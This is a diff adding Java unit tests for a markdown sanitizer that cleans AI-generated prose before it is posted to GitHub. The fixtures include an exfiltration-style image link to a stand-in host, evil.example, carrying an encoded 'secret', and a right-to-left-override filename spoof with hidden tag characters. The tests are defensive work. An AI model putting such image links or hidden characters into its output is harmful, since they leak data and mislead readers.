@@ -5,6 +5,8 @@ import static org.assertj.core.api.Assertions.assertThat;
 import dev.aegis.core.command.Commands;
 import dev.aegis.core.run.StateBlock;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 class SafeMarkdownTest {
 
@@ -38,5 +40,39 @@ class SafeMarkdownTest {
   @Test
   void ordinaryMarkdownSurvives() {
     assertThat(SafeMarkdown.of("**Bold** `code` > quote\n- item 1 & 2")).isEqualTo("**Bold** `code` > quote\n- item 1 & 2");
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"fixes https://github.com/o/r/issues/7", "closes GH-7", "resolves o/r#7", "Fixed: #7",
+      "CLOSES   other-org/other.repo#7", "resolved https://github.example.com/o/r/pull/7"})
+  void closingKeywordsInEveryFormGitHubHonoursAreBroken(String prose) {
+    String safe = SafeMarkdown.of("This " + prose + ", I think.");
+    assertThat(safe).doesNotContainPattern("(?i)\\b(close[sd]?|fix(e[sd])?|resolve[sd]?)\\b\\s*:?\\s*"
+        + "(#\\d|gh-\\d|[\\w.-]+/[\\w.-]+#\\d|https?://)");
+  }
+
+  @Test
+  void aKeywordWithoutAReferenceIsLeftAlone() {
+    assertThat(SafeMarkdown.of("This fixes the bug and closes the gap.")).isEqualTo("This fixes the bug and closes the gap.");
+  }
+
+  @Test
+  void remoteImagesBecomeLinksSoNoReaderFetchesThem() {
+    String safe = SafeMarkdown.of("Evidence: ![graph](https://evil.example/?d=c2VjcmV0) and ![x][ref]");
+    assertThat(safe).doesNotContainPattern("(?<!\\\\)!\\[").contains("\\![graph](https://evil.example/?d=c2VjcmV0)");
+  }
+
+  @Test
+  void bidiOverridesAndTagCharactersAreRemovedFromModelProse() {
+    String safe = SafeMarkdown.of("safe \u202Egnp.exe\u202C text\uDB40\uDC41\uDB40\uDC42 end");
+    assertThat(safe).isEqualTo("safe gnp.exe text end");
+  }
+
+  @Test
+  void addressesOtherThanGitHubsAreNotShownInANote() {
+    String note = SafeMarkdown.withoutEndpoints("cannot reach the model API at http://10.0.0.7:8000/v1/chat/completions"
+        + " (see https://github.com/o/r/settings/actions)", java.util.Set.of("github.com"));
+    assertThat(note).doesNotContain("10.0.0.7").contains("(address not shown)")
+        .contains("https://github.com/o/r/settings/actions");
   }
 }
